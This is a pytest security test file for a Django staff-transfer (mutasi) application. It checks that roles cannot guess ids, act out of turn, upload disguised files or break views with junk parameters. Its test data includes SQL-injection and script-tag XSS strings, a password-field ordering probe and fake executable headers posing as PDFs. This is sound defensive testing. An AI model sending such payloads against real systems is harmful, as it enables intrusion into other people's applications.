"""A hostile tester's pass over every transfer view: each role tries what it must not do
(guessing ids, acting out of turn, other people's notices, late objections, disguised or oversized
files, junk ids and query parameters, double submits, acting on finished or flagged proposals).
Every attempt must end in a clean refusal (302 with a message, 400/403/404/405, or a form error),
never a 500, and never a partial write."""

from datetime import date, timedelta

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from inti.models import CatatanAudit
from mutasi.models import (
    BatchUsulan,
    Keberatan,
    LampiranPermohonan,
    LampiranUsulan,
    NomorUrutSK,
    PengecualianSyarat,
    PermohonanMutasi,
    RiwayatStatusUsulan,
    StatusUsulan,
    SuratKeputusan,
    UsulanMutasi,
)
from mutasi.selectors import kotak_masuk
from mutasi.services.alur import TRANSISI, usulan_transisi
from mutasi.services.keberatan import keberatan_ajukan
from mutasi.services.permohonan import permohonan_buat
from mutasi.services.sk import sk_tandatangani
from mutasi.services.sk_konsep import sk_siapkan_pembatalan
from mutasi.services.usulan import lampiran_tambah
from mutasi.tests.helpers import TMT
from pegawai.models import JenisUnit
from pegawai.tests.factories import UnitKerjaFactory, kepala_dari, pegawai_di

S = StatusUsulan
pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
BESAR = 10**20  # beyond any database integer
PERAN = ["anon", "pegawai", "pegawai_lain", "kepala_asal", "kepala_tujuan", "kepala_lain", "hr", "ppk"]


class Dunia:
    """The proposal's people, one client per role; clients return a 500 instead of raising, so a
    crash shows up as a failed assertion on the status code."""

    def __init__(self, dunia):
        self.d = dunia
        o = dunia.org
        self.unit_lain = UnitKerjaFactory(nama="Dinas Perhubungan", jenis=JenisUnit.OPD)
        self.kepala_lain = kepala_dari(self.unit_lain)
        self.orang = {
            "pegawai": o.anggota,
            "pegawai_lain": o.orang_luar,
            "kepala_asal": o.kepala,
            "kepala_tujuan": dunia.kepala_tujuan,
            "kepala_lain": self.kepala_lain,
            "hr": o.hr,
            "ppk": o.ppk,
        }
        self.klien = {"anon": Client(raise_request_exception=False)}
        for nama, orang in self.orang.items():
            c = Client(raise_request_exception=False)
            c.force_login(orang.akun)
            self.klien[nama] = c

    def akun(self, peran):
        return self.orang[peran].akun


@pytest.fixture
def w(dunia):
    return Dunia(dunia)


def _jejak() -> tuple:
    """Everything a refused request must leave untouched."""
    return (
        sorted(
            UsulanMutasi.objects.values_list(
                "pk",
                "status",
                "tujuan_unit_id",
                "tujuan_jabatan_id",
                "tmt",
                "sk_id",
                "perlu_tinjauan",
                "cek_langkah",
                "keputusan_eksternal_pada",
                "persetujuan_menteri",
                "pemberitahuan_dikonfirmasi",
                "diverifikasi_oleh_id",
                "diputuskan_oleh_id",
            )
        ),
        RiwayatStatusUsulan.objects.count(),
        sorted(PengecualianSyarat.objects.values_list("pk", "dikonfirmasi_pada")),
        LampiranUsulan.objects.count(),
        LampiranPermohonan.objects.count(),
        sorted(Keberatan.objects.values_list("pk", "keputusan", "jawaban")),
        sorted(PermohonanMutasi.objects.values_list("pk", "status")),
        SuratKeputusan.objects.count(),
        list(NomorUrutSK.objects.values_list("tahun", "terakhir")),
        BatchUsulan.objects.count(),
        CatatanAudit.objects.filter(aksi__startswith="mutasi.").count(),
    )


def _pesan(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def _bersih(r, *boleh):
    """A clean refusal (or a page): never a server error."""
    assert r.status_code != 500, r.content[:500]
    assert r.status_code in (boleh or (200, 302, 400, 403, 404, 405)), r.status_code


# --- The objects a hostile user aims at ---------------------------------------------------------------


@pytest.fixture
def sasaran(w):
    """A proposal at every interesting point, with its notice, attachment, objection and request."""
    d, o = w.d, w.d.org
    terbit = d.sampai(S.SK_TERBIT)
    lampiran = lampiran_tambah(
        oleh=o.hr.akun,
        usulan=terbit,
        berkas=SimpleUploadedFile("anjab.pdf", PDF, content_type="application/pdf"),
        jenis="ANJAB_ABK",
    )
    keberatan = keberatan_ajukan(oleh=o.anggota.akun, usulan=terbit, isi="Lokasi baru terlalu jauh dari rumah.")
    pemohon = pegawai_di(o.lain, akun=True)  # someone none of the roles is
    permohonan = permohonan_buat(
        oleh=pemohon.akun,
        jenis="DALAM",
        alasan="Ingin dekat dengan keluarga yang sakit.",
        unit_pilihan=[],
        berkas=[SimpleUploadedFile("surat.pdf", PDF, content_type="application/pdf")],
    )
    draf = d.usulan(pegawai=pegawai_di(o.subunit, mulai=date(2018, 1, 1)))
    diajukan = d.sampai(S.DIAJUKAN, pegawai=pegawai_di(o.subunit, mulai=date(2018, 1, 1)))
    batal = d.sampai(S.DIAJUKAN, pegawai=pegawai_di(o.subunit, mulai=date(2018, 1, 1)))
    usulan_transisi(usulan=batal, aksi="tarik", oleh=o.hr.akun)
    return {
        "terbit": terbit,
        "sk": terbit.sk,
        "lampiran": lampiran,
        "keberatan": keberatan,
        "permohonan": permohonan,
        "lampiran_permohonan": permohonan.lampiran.get(),
        "draf": draf,
        "diajukan": diajukan,
        "batal": batal,
    }


# --- 1. No view crashes, whatever the id, the role or the method ------------------------------------


def _rute(s):
    u = s["terbit"].pk
    return [
        ("mutasi:daftar", []),
        ("mutasi:ekspor", []),
        ("mutasi:kotak_masuk", []),
        ("mutasi:baru", []),
        ("mutasi:detail", [u]),
        ("mutasi:ubah", [u]),
        ("mutasi:aksi", [u, "lepas"]),
        ("mutasi:aksi", [u, "terbitkan_sk"]),
        ("mutasi:aksi", [u, "bukan-aksi"]),
        ("mutasi:pengecualian", [u]),
        ("mutasi:tinjau", [u]),
        ("mutasi:menteri", [u]),
        ("mutasi:lampiran_tambah", [u]),
        ("mutasi:lampiran_unduh", [s["lampiran"].pk]),
        ("mutasi:lampiran_hapus", [s["lampiran"].pk]),
        ("mutasi:sk_terbitkan", [u]),
        ("mutasi:pemberitahuan", [u]),
        ("mutasi:pemberitahuan_pdf", [u]),
        ("mutasi:konfirmasi", [u]),
        ("mutasi:keberatan_ajukan", [u]),
        ("mutasi:batch_daftar", []),
        ("mutasi:batch_baru", []),
        ("mutasi:sk_detail", [s["sk"].pk]),
        ("mutasi:sk_pdf", [s["sk"].pk]),
        ("mutasi:verifikasi", [s["sk"].kode_verifikasi]),
        ("mutasi:saya", []),
        ("mutasi:permohonan_baru", []),
        ("mutasi:permohonan_daftar", []),
        ("mutasi:permohonan_detail", [s["permohonan"].pk]),
        ("mutasi:permohonan_tolak", [s["permohonan"].pk]),
        ("mutasi:permohonan_tarik", [s["permohonan"].pk]),
        ("mutasi:permohonan_lampiran", [s["lampiran_permohonan"].pk]),
        ("mutasi:keberatan_daftar", []),
        ("mutasi:keberatan_jawab", [s["keberatan"].pk]),
    ]


@pytest.mark.parametrize("peran", PERAN)
def test_tidak_ada_500_untuk_id_asing_dan_sampah(w, sasaran, peran):
    c = w.klien[peran]
    for nama, args in _rute(sasaran):
        url = reverse(nama, args=args)
        _bersih(c.get(url))
        if args and isinstance(args[0], int):
            for palsu in (0, BESAR):
                url_palsu = reverse(nama, args=[palsu, *args[1:]])
                for r in (c.get(url_palsu), c.post(url_palsu)):
                    _bersih(r, 302, 403, 404, 405)
    for nama in ("mutasi:batch_detail", "mutasi:batch_aksi", "mutasi:batch_sk"):
        for palsu in (0, BESAR):
            _bersih(c.get(reverse(nama, args=[palsu])), 302, 403, 404, 405)
            _bersih(c.post(reverse(nama, args=[palsu])), 302, 403, 404, 405)
    for path in (
        "/mutasi/abc/",
        "/mutasi/-1/",
        "/mutasi/1.5/aksi/lepas/",
        "/mutasi/sk/x/pdf/",
        "/mutasi/lampiran/%00/",
    ):
        _bersih(c.get(path), 302, 404)


@pytest.mark.parametrize("peran", ["anon", "pegawai", "pegawai_lain", "kepala_lain", "ppk"])
def test_post_sampah_ke_setiap_view_tidak_mengubah_apa_pun(w, sasaran, peran):
    """Roles with no business on this proposal post everything they can think of: nothing changes."""
    c = w.klien[peran]
    sebelum = _jejak()
    u = sasaran["terbit"].pk
    isian = {
        "catatan": "x" * 50,
        "alasan": "Justifikasi yang cukup panjang untuk lolos formulir.",
        "teks": "B-123/2026",
        "isi": "Keberatan saya atas nama orang lain.",
        "keputusan": "BATAL",
        "jawaban": "Dibatalkan oleh yang tidak berwenang.",
        "aksi": "verifikasi",
        "usulan": [str(u), "abc", str(BESAR)],
        "jenis": "LAINNYA",
    }
    for nama, args in _rute(sasaran):
        if nama in ("mutasi:saya", "mutasi:permohonan_baru", "mutasi:kotak_masuk"):
            continue  # their own pages: posting there is not an attack on this proposal
        if peran == "pegawai" and nama == "mutasi:konfirmasi":
            continue  # acknowledging their own notice is their right (tested below)
        _bersih(c.post(reverse(nama, args=args), isian))
    for aksi in TRANSISI:
        for target in ("terbit", "draf", "diajukan", "batal"):
            _bersih(c.post(reverse("mutasi:aksi", args=[sasaran[target].pk, aksi]), {"catatan": "iseng"}))
    assert _jejak() == sebelum


# --- 2. Guessing other people's ids ------------------------------------------------------------------


@pytest.mark.parametrize("peran", ["pegawai_lain", "kepala_lain"])
def test_menebak_id_milik_orang_lain_404(w, sasaran, peran):
    c = w.klien[peran]
    u = sasaran["terbit"]
    for url in [
        reverse("mutasi:detail", args=[u.pk]),
        reverse("mutasi:pemberitahuan", args=[u.pk]),
        reverse("mutasi:pemberitahuan_pdf", args=[u.pk]),
        reverse("mutasi:lampiran_unduh", args=[sasaran["lampiran"].pk]),
        reverse("mutasi:sk_detail", args=[u.sk_id]),
        reverse("mutasi:sk_pdf", args=[u.sk_id]),
        reverse("mutasi:detail", args=[sasaran["draf"].pk]),
        reverse("mutasi:ubah", args=[sasaran["draf"].pk]),
    ]:
        assert c.get(url).status_code in (403, 404), url
    if peran == "kepala_lain":
        for url in [
            reverse("mutasi:permohonan_detail", args=[sasaran["permohonan"].pk]),
            reverse("mutasi:permohonan_lampiran", args=[sasaran["lampiran_permohonan"].pk]),
        ]:
            assert c.get(url).status_code == 404, url


def test_pegawai_tidak_bisa_membuka_permohonan_orang_lain(w, sasaran):
    c = w.klien["pegawai_lain"]  # the request belongs to someone else in the same OPD
    p = sasaran["permohonan"]
    assert c.get(reverse("mutasi:permohonan_detail", args=[p.pk])).status_code == 404
    assert c.get(reverse("mutasi:permohonan_lampiran", args=[sasaran["lampiran_permohonan"].pk])).status_code == 404
    assert c.post(reverse("mutasi:permohonan_tarik", args=[p.pk])).status_code == 404
    p.refresh_from_db()
    assert p.status == "DIAJUKAN"


def test_kepala_tidak_bisa_memakai_permohonan_pegawai_untuk_mengisi_form(w, sasaran):
    p = sasaran["permohonan"]
    for peran in ("kepala_asal", "kepala_lain"):
        r = w.klien[peran].get(reverse("mutasi:baru") + f"?permohonan={p.pk}")
        assert r.status_code == 404
        assert p.alasan.encode() not in r.content
    r = w.klien["hr"].get(reverse("mutasi:baru") + f"?permohonan={p.pk}")
    assert r.status_code == 200 and p.alasan in r.content.decode()


def test_pegawai_belum_diputuskan_tidak_melihat_usulannya(w, sasaran):
    from pegawai.tests.factories import UserFactory

    u = sasaran["diajukan"]  # still waiting for the sending head
    p = u.pegawai
    p.akun = UserFactory(nip=p.nip)
    p.save(update_fields=["akun"])
    c = Client(raise_request_exception=False)
    c.force_login(p.akun)
    for nama in ("mutasi:detail", "mutasi:pemberitahuan", "mutasi:konfirmasi", "mutasi:keberatan_ajukan"):
        assert c.get(reverse(nama, args=[u.pk])).status_code in (404, 405)
    assert c.post(reverse("mutasi:konfirmasi", args=[u.pk])).status_code == 404
    assert u.pk not in [x.pk for x in c.get(reverse("mutasi:saya")).context["daftar"]]


# --- 3. Acting out of turn -------------------------------------------------------------------------------


LANGKAH = [
    (S.DIAJUKAN, "lepas", "kepala_asal"),
    (S.DILEPAS, "terima", "kepala_tujuan"),
    (S.DITERIMA, "verifikasi", "hr"),
    (S.DIVERIFIKASI, "putuskan", "ppk"),
]


@pytest.mark.parametrize(("status", "aksi", "pelaku"), LANGKAH)
@pytest.mark.parametrize("peran", PERAN)
def test_aksi_di_luar_giliran_lewat_view(w, status, aksi, pelaku, peran):
    u = w.d.sampai(status)
    c = w.klien[peran]
    sebelum = _jejak()
    r = c.post(reverse("mutasi:aksi", args=[u.pk, aksi]), {"catatan": ""})
    _bersih(r, 302, 404)
    if peran == pelaku:
        u.refresh_from_db()
        assert u.status == TRANSISI[aksi].ke
        return
    assert _jejak() == sebelum
    if r.status_code == 302 and peran != "anon":
        pesan = _pesan(r)
        assert pesan and "berhasil" not in " ".join(pesan)
    # every other action is refused too, except the ones that role really has at this step
    for lain in ("ajukan", "lepas", "terima", "verifikasi", "putuskan"):
        if lain == aksi:
            continue
        sebelum = _jejak()
        _bersih(c.post(reverse("mutasi:aksi", args=[u.pk, lain])), 302, 404)
        assert _jejak() == sebelum


def test_aksi_internal_tidak_bisa_dipanggil_lewat_url(w):
    u = w.d.sampai(S.DIPUTUSKAN)
    sebelum = _jejak()
    for aksi in ("terbitkan_sk", "laksanakan", "revisi_tujuan"):
        assert w.klien["hr"].post(reverse("mutasi:aksi", args=[u.pk, aksi]), {"catatan": "x"}).status_code == 404
    assert _jejak() == sebelum


# --- 4. Other people's notices and objections ------------------------------------------------------------


@pytest.mark.parametrize("peran", ["hr", "ppk", "kepala_asal", "kepala_tujuan"])
def test_konfirmasi_dan_keberatan_atas_nama_orang_lain_ditolak(w, sasaran, peran):
    u = sasaran["terbit"]
    c = w.klien[peran]
    sebelum = _jejak()
    r = c.post(reverse("mutasi:konfirmasi", args=[u.pk]))
    assert r.status_code == 302 and _pesan(r)
    r = c.post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "Keberatan atas nama pegawai."})
    assert r.status_code == 302 and any("Hanya pegawai" in m for m in _pesan(r))
    assert _jejak() == sebelum


@pytest.mark.parametrize("peran", ["pegawai_lain", "kepala_lain"])
def test_konfirmasi_dan_keberatan_tanpa_akses_404(w, sasaran, peran):
    u = sasaran["terbit"]
    sebelum = _jejak()
    assert w.klien[peran].post(reverse("mutasi:konfirmasi", args=[u.pk])).status_code == 404
    assert w.klien[peran].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "x" * 20}).status_code == 404
    assert _jejak() == sebelum


def test_keberatan_lewat_batas_waktu_lewat_view(w, settings):
    settings.KEBERATAN_BATAS_HARI = 14
    d = w.d
    u = d.sampai(S.SK_TERBIT)
    # the window runs from the day the notice was given: the employee acknowledged it 15 days ago
    UsulanMutasi.objects.filter(pk=u.pk).update(pemberitahuan_dikonfirmasi=timezone.now() - timedelta(days=15))
    sebelum = _jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "Terlambat tapi penting."})
    assert r.status_code == 302 and any("lewat" in m for m in _pesan(r))
    assert _jejak() == sebelum
    saya = w.klien["pegawai"].get(reverse("mutasi:saya")).content.decode()
    assert reverse("mutasi:keberatan_ajukan", args=[u.pk]) not in saya  # no form offered either


def test_keberatan_kedua_dan_terlalu_panjang_ditolak(w, sasaran):
    u = sasaran["terbit"]  # already has an unanswered objection
    sebelum = _jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "Keberatan kedua saya."})
    assert any("menunggu jawaban" in m for m in _pesan(r))
    assert _jejak() == sebelum
    Keberatan.objects.all().update(status="DIJAWAB", jawaban="Tetap.", keputusan="TETAP", dijawab_pada=timezone.now())
    sebelum = _jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "x" * 6000})
    assert any("terlalu panjang" in m for m in _pesan(r))
    assert _jejak() == sebelum


def test_konfirmasi_pemberitahuan_yang_dibatalkan_ditolak(w):
    d = w.d
    u = d.sampai(S.SK_TERBIT)
    # a decree in force is cancelled by the revoking decree the PPK signs
    konsep = sk_siapkan_pembatalan(oleh=d.org.hr.akun, usulan=u, alasan="Formasi tujuan dibekukan.")
    sk_tandatangani(oleh=d.org.ppk.akun, sk=konsep)
    sebelum = _jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:konfirmasi", args=[u.pk]))
    assert r.status_code == 302 and _pesan(r)
    assert _jejak() == sebelum
    assert w.klien["pegawai"].get(reverse("mutasi:pemberitahuan", args=[u.pk])).status_code == 404


def test_konfirmasi_dua_kali_sekali_tercatat(w, sasaran):
    u = sasaran["terbit"]
    c = w.klien["pegawai"]
    c.post(reverse("mutasi:konfirmasi", args=[u.pk]))
    u.refresh_from_db()
    pertama = u.pemberitahuan_dikonfirmasi
    jejak = _jejak()
    r = c.post(reverse("mutasi:konfirmasi", args=[u.pk]))
    assert any("sudah" in m for m in _pesan(r))
    u.refresh_from_db()
    assert u.pemberitahuan_dikonfirmasi == pertama and _jejak() == jejak


# --- 5. Files: disguised, oversized, empty, missing ----------------------------------------------------


@pytest.mark.parametrize(
    ("nama", "isi", "pesan"),
    [
        ("sk_terakhir.pdf", EXE, "bukan PDF"),
        ("sk_terakhir.pdf", ELF, "bukan PDF"),
        ("skrip.pdf", b"<script>alert(1)</script>", "bukan PDF"),
        ("laporan.pdf.exe", PDF, "tidak sesuai"),
        ("foto.pdf", PNG, "tidak sesuai"),
        ("tanpa_ekstensi", PDF, "tidak sesuai"),
    ],
)
def test_lampiran_menyamar_ditolak(w, sasaran, nama, isi, pesan, settings):
    u = sasaran["diajukan"]
    sebelum = _jejak()
    berkas = SimpleUploadedFile(nama, isi, content_type="application/pdf")
    r = w.klien["hr"].post(reverse("mutasi:lampiran_tambah", args=[u.pk]), {"jenis": "LAINNYA", "berkas": berkas})
    assert r.status_code == 302 and any(pesan in m for m in _pesan(r))
    assert _jejak() == sebelum
    folder = settings.MEDIA_ROOT / "mutasi" / "lampiran"
    tersimpan = [p.relative_to(settings.MEDIA_ROOT).as_posix() for p in folder.rglob("*") if p.is_file()]
    assert tersimpan == [sasaran["lampiran"].berkas.name]  # only the fixture's own attachment (a random name)


def test_lampiran_terlalu_besar_dan_kosong_ditolak(w, sasaran, settings):
    settings.UPLOAD_MAX_MB = 1
    u = sasaran["diajukan"]
    sebelum = _jejak()
    besar = SimpleUploadedFile("besar.pdf", PDF + b"0" * (1024 * 1024), content_type="application/pdf")
    r = w.klien["hr"].post(reverse("mutasi:lampiran_tambah", args=[u.pk]), {"jenis": "LAINNYA", "berkas": besar})
    assert any("terlalu besar" in m for m in _pesan(r))
    kosong = SimpleUploadedFile("kosong.pdf", b"", content_type="application/pdf")
    r = w.klien["hr"].post(reverse("mutasi:lampiran_tambah", args=[u.pk]), {"jenis": "LAINNYA", "berkas": kosong})
    assert r.status_code == 302 and _pesan(r)
    r = w.klien["hr"].post(
        reverse("mutasi:lampiran_tambah", args=[u.pk]),
        {"jenis": "BUKAN_JENIS", "berkas": SimpleUploadedFile("a.pdf", PDF)},
    )
    assert r.status_code == 302 and _pesan(r)
    assert _jejak() == sebelum


def test_lampiran_oleh_yang_tidak_berhak_atau_usulan_selesai_ditolak(w, sasaran):
    sebelum = _jejak()
    berkas = SimpleUploadedFile("a.pdf", PDF, content_type="application/pdf")
    # the receiving head may see the proposal, but has no step on it now
    r = w.klien["kepala_tujuan"].post(
        reverse("mutasi:lampiran_tambah", args=[sasaran["diajukan"].pk]), {"jenis": "LAINNYA", "berkas": berkas}
    )
    assert r.status_code == 302 and any("tidak dapat" in m for m in _pesan(r))
    berkas = SimpleUploadedFile("a.pdf", PDF, content_type="application/pdf")
    r = w.klien["hr"].post(
        reverse("mutasi:lampiran_tambah", args=[sasaran["batal"].pk]), {"jenis": "LAINNYA", "berkas": berkas}
    )
    assert r.status_code == 302 and _pesan(r)
    r = w.klien["hr"].post(reverse("mutasi:lampiran_hapus", args=[sasaran["lampiran"].pk]))
    assert any("draf" in m for m in _pesan(r))  # the proposal is past its draft
    assert _jejak() == sebelum


def test_berkas_hilang_dari_penyimpanan_404(w, sasaran):
    sasaran["lampiran"].berkas.storage.delete(sasaran["lampiran"].berkas.name)
    assert w.klien["hr"].get(reverse("mutasi:lampiran_unduh", args=[sasaran["lampiran"].pk])).status_code == 404
    lp = sasaran["lampiran_permohonan"]
    lp.berkas.storage.delete(lp.berkas.name)
    assert w.klien["hr"].get(reverse("mutasi:permohonan_lampiran", args=[lp.pk])).status_code == 404


@pytest.mark.parametrize(("nama", "isi"), [("surat.pdf", EXE), ("surat.pdf.exe", PDF)])
def test_permohonan_dengan_berkas_menyamar_tidak_tersimpan_sebagian(w, nama, isi):
    c = Client(raise_request_exception=False)
    p = pegawai_di(w.d.org.subunit, akun=True)
    c.force_login(p.akun)
    sebelum = _jejak()
    r = c.post(
        reverse("mutasi:permohonan_baru"),
        {
            "jenis": "DALAM",
            "alasan": "Ingin dekat keluarga yang sedang sakit.",
            "berkas": SimpleUploadedFile(nama, isi),
        },
    )
    assert r.status_code == 200 and r.context["form"].non_field_errors()
    assert "dekat keluarga yang sedang sakit" in r.content.decode()  # what was typed is kept
    assert _jejak() == sebelum


# --- 6. Junk query parameters ------------------------------------------------------------------------------


SAMPAH = [
    "page=abc",
    "page=-1",
    f"page={BESAR}",
    "status=nonsense",
    "status=' OR 1=1 --",
    "urut=__class__",
    "urut=-pegawai__akun__password",
    "unit=abc",
    f"unit={BESAR}",
    f"batch={BESAR}",
    "batch=abc",
    "batch=-5",
    "dari=2024-13-45",
    "sampai=99999-01-01",
    "jenis=X",
    "dasar=__init__",
    "q=%3Cscript%3Ealert(1)%3C/script%3E",
    "q=" + "x" * 3000,
    "q=USL-2026-ABCDE",
    "q=USL-2026-99999999999999999999",
    "q=USL-2026-%C2%B2%C2%B2%C2%B2%C2%B2%C2%B2",  # Unicode digits: "²".isdigit() is True, int("²") raises
    "unit=%C2%B2",
    "batch=%C2%B2",
    "q=%00",
]


@pytest.mark.parametrize("query", SAMPAH)
@pytest.mark.parametrize("peran", ["hr", "kepala_asal", "ppk"])
def test_parameter_sampah_di_daftar_dan_ekspor(w, sasaran, query, peran):
    c = w.klien[peran]
    for nama in ("mutasi:daftar", "mutasi:ekspor", "mutasi:batch_daftar"):
        r = c.get(reverse(nama) + "?" + query)
        assert r.status_code == 200, (nama, query, r.status_code)
        isi = b"".join(r.streaming_content) if r.streaming else r.content
        assert b"<script>alert(1)" not in isi


@pytest.mark.parametrize("query", ["status=nonsense", "status=DIAJUKAN&page=abc", f"page={BESAR}", "page=0"])
def test_parameter_sampah_di_daftar_hr(w, sasaran, query):
    for nama in ("mutasi:permohonan_daftar", "mutasi:keberatan_daftar"):
        assert w.klien["hr"].get(reverse(nama) + "?" + query).status_code == 200


def test_filter_salah_tidak_membuang_filter_lain(w, sasaran):
    r = w.klien["hr"].get(reverse("mutasi:daftar") + "?status=nonsense&q=" + sasaran["terbit"].pegawai.nama)
    assert r.status_code == 200
    daftar = list(r.context["usulan_list"])
    assert daftar and all(u.pegawai_id == sasaran["terbit"].pegawai_id for u in daftar)
    assert r.context["form"].errors.get("status")


@pytest.mark.parametrize(
    "query",
    [
        f"pegawai={BESAR}&unit={BESAR}&jabatan={BESAR}",
        f"permohonan={BESAR}",
        "pegawai=abc&unit=-1&jabatan=1e9&dasar=__class__",
        "nip=" + "9" * 200,
        "nip=<script>",
        "pegawai=%C2%B2&unit=%C2%B2&jabatan=%C2%B2&permohonan=%C2%B2&nip=%C2%B2",
    ],
)
@pytest.mark.parametrize("peran", ["hr", "kepala_asal"])
def test_parameter_sampah_di_form_baru(w, query, peran):
    r = w.klien[peran].get(reverse("mutasi:baru") + "?" + query)
    assert r.status_code in (200, 404)
    assert b"<script>" not in r.content


def test_batch_aksi_dengan_id_sampah(w):
    from mutasi.services.usulan import batch_baca_daftar, batch_buat

    d = w.d
    a = pegawai_di(d.org.subunit, mulai=date(2018, 1, 1))
    b = pegawai_di(d.org.unit, mulai=date(2018, 1, 1))
    batch = batch_buat(
        oleh=d.org.hr.akun,
        nama="Rotasi",
        dasar="ROTASI",
        tmt_usulan=TMT,
        keterangan="",
        baris=batch_baca_daftar(f"{a.nip}\n{b.nip}", rotasi=True),
        alasan="Rotasi berkala.",
        manfaat_organisasi="Layanan merata.",
        manfaat_pegawai="Pengalaman baru.",
        alasan_tanpa_kekurangan="Rotasi tanpa menambah pegawai.",
    )
    lain = w.d.sampai(S.DIAJUKAN, pegawai=pegawai_di(d.org.subunit, mulai=date(2018, 1, 1)))  # not in the batch
    sebelum = _jejak()
    for data in [
        {"aksi": "ajukan", "usulan": ["abc", str(BESAR), "-1", "9" * 40, "²", str(lain.pk)]},
        {"aksi": "terbitkan_sk", "usulan": [str(x.pk) for x in batch.usulan.all()]},
        {"aksi": "__class__", "usulan": []},
        {"aksi": "lepas", "usulan": [str(lain.pk)]},  # a proposal of another batch: ignored
    ]:
        r = w.klien["hr"].post(reverse("mutasi:batch_aksi", args=[batch.pk]), data)
        assert r.status_code == 302 and _pesan(r)
    assert _jejak() == sebelum


# --- 7. Double submits ------------------------------------------------------------------------------------


def test_aksi_dua_kali_hanya_sekali_berlaku(w):
    u = w.d.sampai(S.DIAJUKAN)
    c = w.klien["kepala_asal"]
    c.post(reverse("mutasi:aksi", args=[u.pk, "lepas"]))
    jejak = _jejak()
    r = c.post(reverse("mutasi:aksi", args=[u.pk, "lepas"]))
    assert r.status_code == 302 and any("tidak dapat dilakukan" in m for m in _pesan(r))
    assert _jejak() == jejak
    assert RiwayatStatusUsulan.objects.filter(usulan=u, aksi="lepas").count() == 1


def test_sk_dua_kali_hanya_satu_konsep(w):
    u = w.d.sampai(S.DIPUTUSKAN)
    data = {"tmt": TMT.isoformat()}
    w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), data)
    jejak = _jejak()
    r = w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), data)
    assert r.status_code == 302 and _pesan(r)
    assert _jejak() == jejak and SuratKeputusan.objects.count() == 1


def test_usulan_baru_dua_kali_hanya_satu_draf(w):
    d = w.d
    p = pegawai_di(d.org.subunit, mulai=date(2018, 1, 1))
    data = {
        "pegawai": p.pk,
        "jenis": "DALAM",
        "dasar": "ROTASI",
        "tujuan_unit": d.tujuan.pk,
        "tujuan_jabatan": d.jabatan_tujuan.pk,
        "tmt_usulan": TMT.isoformat(),
        "alasan": "Penyegaran.",
        "manfaat_organisasi": "Layanan lebih kuat.",
        "manfaat_pegawai": "Pengalaman baru.",
        "alasan_tanpa_kekurangan": "Layanan baru.",
    }
    r = w.klien["hr"].post(reverse("mutasi:baru"), data)
    assert r.status_code == 302
    jejak = _jejak()
    r = w.klien["hr"].post(reverse("mutasi:baru"), data)
    assert r.status_code == 200 and any("sudah ada" in m for m in _pesan(r))
    assert r.context["form"]["alasan"].value() == "Penyegaran."  # nothing typed is lost
    assert _jejak() == jejak and UsulanMutasi.objects.filter(pegawai=p).count() == 1


def test_permohonan_dua_kali_hanya_satu(w):
    c = Client(raise_request_exception=False)
    p = pegawai_di(w.d.org.subunit, akun=True)
    c.force_login(p.akun)
    data = {"jenis": "DALAM", "alasan": "Ingin dekat keluarga yang sedang sakit."}
    assert c.post(reverse("mutasi:permohonan_baru"), data).status_code == 302
    jejak = _jejak()
    r = c.post(reverse("mutasi:permohonan_baru"), data)
    assert r.status_code == 200 and r.context["form"].non_field_errors()
    assert _jejak() == jejak


def test_jawab_keberatan_dua_kali(w, sasaran):
    k = sasaran["keberatan"]
    url = reverse("mutasi:keberatan_jawab", args=[k.pk])
    w.klien["hr"].post(url, {"keputusan": "TETAP", "jawaban": "Mutasi tetap dilaksanakan."})
    jejak = _jejak()
    r = w.klien["hr"].post(url, {"keputusan": "BATAL", "jawaban": "Berubah pikiran: dibatalkan."})
    assert r.status_code == 200 and "sudah dijawab" in r.content.decode()
    assert _jejak() == jejak
    sasaran["terbit"].refresh_from_db()
    assert sasaran["terbit"].status == S.SK_TERBIT


def test_jawab_keberatan_isian_sampah(w, sasaran):
    k = sasaran["keberatan"]
    url = reverse("mutasi:keberatan_jawab", args=[k.pk])
    jejak = _jejak()
    for data in [
        {"keputusan": "HAPUS", "jawaban": "Jawaban yang cukup panjang."},
        {"keputusan": "REVISI", "jawaban": "Direvisi.", "tujuan_unit": str(BESAR)},
        {"keputusan": "REVISI", "jawaban": "Direvisi tanpa isi perubahan."},
        {"keputusan": "REVISI", "jawaban": "Direvisi ke tahun jauh.", "tmt_baru": "9999-12-31"},
        {"keputusan": "TETAP", "jawaban": "pendek"},
    ]:
        r = w.klien["hr"].post(url, data)
        assert r.status_code == 200 and (r.context["form"].errors), data
    assert _jejak() == jejak


# --- 8. Finished, withdrawn and flagged proposals ------------------------------------------------------------


@pytest.mark.parametrize("akhir", ["tarik", "batalkan", "tolak"])
def test_usulan_selesai_tidak_bisa_disentuh(w, akhir):
    d, o = w.d, w.d.org
    u = d.sampai(S.DIAJUKAN)
    pelaku = {"tarik": o.hr, "batalkan": o.hr, "tolak": o.kepala}[akhir]
    usulan_transisi(usulan=u, aksi=akhir, oleh=pelaku.akun, catatan="Selesai.")
    UsulanMutasi.objects.filter(pk=u.pk).update(perlu_tinjauan=True, tinjauan_alasan="contoh")
    sebelum = _jejak()
    for peran in ("hr", "kepala_asal", "kepala_tujuan", "ppk"):
        c = w.klien[peran]
        for aksi in TRANSISI:
            _bersih(c.post(reverse("mutasi:aksi", args=[u.pk, aksi]), {"catatan": "Hidupkan lagi."}), 302, 404)
        _bersih(c.post(reverse("mutasi:ubah", args=[u.pk]), {"alasan": "ubah"}), 302, 403, 404)
